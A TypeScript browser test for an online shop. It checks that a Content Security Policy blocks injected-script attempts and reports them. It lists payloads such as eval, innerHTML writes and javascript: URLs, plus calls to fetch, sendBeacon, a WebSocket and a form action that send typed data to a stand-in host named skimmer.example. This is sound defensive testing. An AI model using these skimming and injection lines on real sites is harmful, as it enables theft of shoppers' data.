import { watchViolations } from '../script-inventory/watch-violations';
import { expect, test } from '../shop/test';

/** Attempts of an injected script, with the directive that blocks each. */
const attempts = [
  ['run text', 'require-trusted-types-for', 'eval("window.taken = 1")'],
  ['make a function of text', 'require-trusted-types-for', 'new Function("window.taken = 1")()'],
  ['run text later', 'require-trusted-types-for', 'setTimeout("window.taken = 1")'],
  ['write markup', 'require-trusted-types-for', 'document.body.innerHTML = "<b>taken</b>"'],
  ['write a document', 'require-trusted-types-for', 'document.write("<b>taken</b>")'],
  ['add a script', 'require-trusted-types-for', 'add("script", { src: host })'],
  [
    'add an inline script',
    'require-trusted-types-for',
    'add("script", { text: "window.taken=1" })',
  ],
  [
    'give a handler as text',
    'require-trusted-types-for',
    'document.body.setAttribute("onclick", "1")',
  ],
  ['trust everything', 'trusted-types', 'trustedTypes.createPolicy("lenient", {})'],
  [
    'go to an address that is a script',
    'script-src-elem',
    'location = "javascript:window.taken=1"',
  ],
  ['import a foreign module', 'script-src-elem', 'import(host)'],
  ['import text', 'script-src-elem', 'import("data:text/javascript,window.taken=1")'],
  ['start a worker', 'require-trusted-types-for', 'new Worker("/assets/none.js")'],
  ['send what was typed', 'connect-src', 'fetch(host + "?typed=1")'],
  ['send it while leaving', 'connect-src', 'navigator.sendBeacon(host, "typed")'],
  ['keep a line open', 'connect-src', 'new WebSocket("wss://skimmer.example/")'],
  ['send it as the address of a picture', 'img-src', 'add("img", { src: host + "?typed=1" })'],
  ['frame a foreign page', 'frame-src', 'add("iframe", { src: host })'],
  ['frame a page made of text', 'frame-src', 'add("iframe", { src: "data:text/html,1" })'],
  ['lead all addresses elsewhere', 'base-uri', 'add("base", { href: host })'],
  ['send a form elsewhere', 'form-action', 'add("form", { action: host }).submit()'],
  ['read by a style sheet', 'style-src-elem', 'add("style", { textContent: "*{color:red}" })'],
  ['bring a style sheet', 'style-src-elem', 'add("link", { rel: "stylesheet", href: host })'],
  ['embed a plug-in', 'require-trusted-types-for', 'add("object", { data: host })'],
  ['play a film', 'media-src', 'add("video", { src: host })'],
] as const;

/** Runs an attempt as the page's own code: code that a debugger evaluates may do more. */
function fromWithin(attempt: string): string {
  return `setTimeout(async () => {
    const host = 'https://skimmer.example/';
    const add = (tag, properties) => {
      const element = Object.assign(document.createElement(tag), properties);
      document.body.append(element);
      return element;
    };
    try { await (${attempt}); } catch { /* blocked */ }
  })`;
}

test.use({ plantsViolations: true });

test('attempts of a foreign script in the shop’s page are blocked and reported', async ({
  player,
  control,
}) => {
  const { page } = player;
  const answered: string[] = [];
  page.on('response', (response) => answered.push(response.url()));
  await page.route('https://skimmer.example/**', async (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.taken = 1' }),
  );
  const violations = await watchViolations(page);
  await player.visit('nova');
  expect(violations).toEqual([]);

  for (const [name, directive, attempt] of attempts) {
    await test.step(`it cannot ${name}`, async () => {
      const before = violations.length;
      await page.evaluate(fromWithin(attempt));
      await expect.poll(() => violations.slice(before).join()).toContain(`${directive}: `);
    });
  }

  await expect
    .poll(async () => JSON.stringify(await control.policyReports()))
    .toContain('"blocked":"https://skimmer.example/"');
  expect(JSON.stringify(await control.policyReports())).not.toContain('typed=1');
  expect(await page.evaluate('window.taken')).toBe(undefined);
  expect(answered.filter((address) => address.includes('skimmer.example'))).toEqual([]);
});
